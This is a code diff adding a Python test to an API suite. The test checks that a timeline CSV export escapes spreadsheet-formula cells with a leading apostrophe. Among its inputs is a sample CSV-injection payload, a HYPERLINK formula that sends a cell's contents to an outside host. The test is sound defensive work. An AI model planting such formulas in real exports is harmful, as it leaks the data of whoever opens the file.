@@ -117,6 +117,17 @@ class TestTimeline:
         again = await api.get(TIMELINE, params=params, headers=READ)  # not the cached CSV
         assert again.json()["rows"] == rows
 
+    async def test_a_csv_cell_that_would_be_a_formula_is_text(self, api: httpx.AsyncClient) -> None:
+        formula = '=HYPERLINK("https://example.invalid/?"&A2,"ok")'
+        reasons = [formula, "+1", "-x", "@SUM(A1)", "\tx"]
+        for symbol, reason in zip((await ranked(api))[:5], reasons, strict=True):
+            assert (await add(api, symbol, reason=reason)).status_code == 200
+        rows = (await timeline(api))["rows"]
+        answer = await api.get(TIMELINE, headers=CSV)
+        shown = {line["reason"] for line in csv.DictReader(io.StringIO(answer.text))}
+        assert {r["reason"] for r in rows} == set(reasons)  # the JSON keeps the text as given
+        assert shown == {"'" + reason for reason in reasons}
+
     async def test_a_change_made_through_the_api_opens_a_new_interval(
         self, api: httpx.AsyncClient
     ) -> None:
